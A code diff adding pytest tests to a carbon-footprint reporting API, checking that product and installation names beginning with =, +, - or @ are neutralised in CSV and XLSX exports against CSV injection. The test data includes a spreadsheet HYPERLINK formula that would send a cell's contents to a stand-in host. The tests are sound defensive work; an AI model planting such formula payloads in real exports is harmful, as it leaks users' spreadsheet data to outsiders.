@@ -69,3 +69,43 @@ def test_flat_glass_is_not_a_cbam_good(world):
     response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{glass}/cbam")
     assert response.status_code == 422 and "Annex I" in response.json()["detail"]
     assert world.call("rival-engineer", "GET", f"/api/v1/footprints/{glass}/cbam").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1)"]
+
+
+def hostile_footprint(world, name: str) -> str:
+    """The cement example with `name` as both the product's and the installation's name."""
+    from tests.conftest import load_example
+    from tests.labelling import unique_serials
+
+    product = world.call("acme-engineer", "POST", "/api/v1/products",
+                         json={"name": name, "model": None, "gtin": None, "pcr_id": "PCR-CN-CEMENT"})
+    assert product.status_code == 201, product.text
+    data = unique_serials(load_example("cement-guizhou-2023.json"))
+    data["facility"]["name"] = name
+    inventory = world.submit("acme-engineer", product.json()["id"], data)
+    assert inventory.status_code == 201, inventory.text
+    return world.calculate("acme-engineer", inventory.json()["id"])["footprint_id"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_formula_as_a_name_is_text_in_the_csv(world, name):
+    """OWASP CSV injection: a cell that begins with = + - @ gets a leading single quote; the figures stay numbers."""
+    footprint = hostile_footprint(world, name)
+    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam", params={"format": "csv"})
+    assert response.status_code == 200
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert row["Product"] == "'" + name and row["Installation"] == "'" + name
+    assert float(row["Electricity consumption (MWh per unit)"]) == pytest.approx(0.08)
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_formula_as_a_name_is_a_string_cell_in_the_workbook(world, name):
+    footprint = hostile_footprint(world, name)
+    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam", params={"format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for field in ("Product", "Installation"):
+        assert (cells[field].value, cells[field].data_type) == (name, "s")
+    assert cells["Electricity consumption (MWh per unit)"].data_type == "n"
